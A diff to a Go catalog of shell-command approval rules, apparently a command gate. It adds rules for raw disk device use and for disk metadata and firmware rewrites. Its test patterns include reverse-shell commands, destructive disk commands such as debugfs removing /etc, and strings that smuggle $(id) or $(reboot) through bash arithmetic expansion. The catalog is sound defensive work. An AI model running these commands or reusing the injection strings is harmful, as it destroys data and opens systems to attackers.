@@ -29,6 +29,7 @@ const (
 	RuleKillAll       = "hardline.kill-all"
 	RulePower         = "hardline.power"
 	RuleSudoStdin     = "hardline.sudo-stdin"
+	RuleDeviceUnknown = "hardline.device-unknown-use"
 	RuleUnparseable   = "approval.unparseable"
 	RuleDynamicProg   = "approval.dynamic-program"
 	RuleEval          = "approval.eval"
@@ -64,6 +65,7 @@ const (
 	RuleScriptWrite   = "approval.script-write"
 	RuleDeviceWrite   = "approval.device-write"
 	RuleDD            = "approval.dd"
+	RuleDiskChange    = "approval.disk-change"
 	RuleReverseShell  = "approval.reverse-shell"
 	RuleDevTCP        = "approval.dev-tcp"
 	RuleRemoteExec    = "approval.remote-exec"
@@ -129,6 +131,12 @@ var catalog = []Rule{
 		Match:       []string{"echo hunter2 | sudo -S whoami", "sudo -S whoami", "sudo -kS id", "sudo --stdin id", "sudo -nS true"},
 		NoMatch:     []string{"sudo -u root ls", "sudo --shell id", "pseudosudo -S id", "sudo -s"}},
 
+	{ID: RuleDeviceUnknown, Tier: TierHardline,
+		Description: "disk or raw hardware device given to a program, or an option, whose grammar does not say it only reads it",
+		Match: []string{"mystery-tool /dev/sda", "imgtool --dest=/dev/nvme0n1",
+			"flasher -o/dev/mmcblk0 img", "writer id=0,dest=/dev/sda1", "tool of=/dev/port", "zstd -d x.zst --frobnicate /dev/sdb"},
+		NoMatch: []string{"blkid /dev/sda1", "smartctl -a /dev/sda", "lsblk /dev/sda", "cat /dev/sda > /dev/null", "file -s /dev/sda1",
+			"export DISK=/dev/sda", "udevadm info /dev/sda", "mystery-tool /tmp/x", "tree -L 1 /dev/disk"}},
 	{ID: RuleUnparseable, Tier: TierApproval,
 		Description: "command does not parse as bash",
 		Match:       []string{"echo 'unterminated", "if then fi", "ls &&"},
@@ -167,7 +175,8 @@ var catalog = []Rule{
 		Description: "construct that mvdan.cc/sh and bash may read differently (arithmetic evaluation of a string, let operators, $'\\0', a comment continued by a backslash, an array assignment glued to the next word)",
 		Match: []string{`x='a[$(reboot)]'; [[ $x -eq 0 ]]`, `(( 'a[$(id)]' ))`, "let x=1|y", "let x=1>f",
 			`declare -i n='a[$(id)]'`, `test -v 'a[$(id)]'`, "a=(1)#; reboot", "x=1 #\\\nreboot", `$'ls\0x' /`,
-			"printf -v 'a[`id`]' x", `x=abc; y='a[$(id)]'; echo ${x:y}`, `bash -c "x='a[\$(id)]'; echo \$((x))"`},
+			"printf -v 'a[`id`]' x", `x=abc; y='a[$(id)]'; echo ${x:y}`, `bash -c "x='a[\$(id)]'; echo \$((x))"`,
+			`x='a[$(id)]'; echo ${!x}`, `x='$(id)'; echo "${x@P}"`},
 		NoMatch: []string{"echo $((1+2))", "for ((i=0;i<3;i++)); do echo $i; done", "let i++", `let "x = 1 | 2"`,
 			"[[ $n -eq 0 ]]", "echo '$(not run)'", "a=(1 2) # note", "make -j$(( $(nproc) + 1 ))", "# a comment \\\n"}},
 	{ID: RuleOpaque, Tier: TierApproval,
@@ -280,6 +289,11 @@ var catalog = []Rule{
 		Description: "dd raw copy",
 		Match:       []string{"dd if=a.img of=b.img", "dd if=/dev/sda of=backup.img", "dd if=./data of=./backup.bin"},
 		NoMatch:     []string{"dd --help", "dd --version"}},
+	{ID: RuleDiskChange, Tier: TierApproval,
+		Description: "rewrite a disk's filesystem metadata, encryption header or device mapping, or the firmware flash (repairs that can lose data)",
+		Match: []string{"debugfs -w -R 'rm /etc' /dev/sda", "xfs_repair -L /dev/sda1", "cryptsetup luksHeaderRestore /dev/sda --header-backup-file x",
+			"dmsetup remove_all --force", "flashrom -p internal -w bios.bin", "e2fsck -fy /dev/sda1", "tune2fs -O ^has_journal /dev/sdb1"},
+		NoMatch: []string{"debugfs -R stats /dev/sda1", "xfs_repair -n /dev/sda1", "e2fsck -n /dev/sda1", "tune2fs -l /dev/sda1", "dmsetup ls", "flashrom -p internal -r bios.bin"}},
 	{ID: RuleReverseShell, Tier: TierApproval,
 		Description: "reverse shell or network-exposed command execution",
 		Match: []string{"nc -e /bin/sh 10.0.0.1 4444", "ncat --exec /bin/bash h 1", "socat tcp:h:1 exec:/bin/sh",
@@ -295,7 +309,7 @@ var catalog = []Rule{
 		NoMatch:     []string{"ssh host", "ssh -V", "docker ps"}},
 	{ID: RuleKill, Tier: TierApproval,
 		Description: "forced or name-based process kill",
-		Match:       []string{"kill -9 1234", "kill -KILL 12", "pkill python", "killall -s KILL firefox", "kill -s 9 1"},
+		Match:       []string{"kill -9 1234", "kill -KILL 12", "pkill python", "killall -s KILL firefox", "kill -s 9 12"},
 		NoMatch:     []string{"kill 12345", "kill -l", "kill -TERM 12"}},
 	{ID: RuleServiceStop, Tier: TierApproval,
 		Description: "stop, restart or disable a system service",
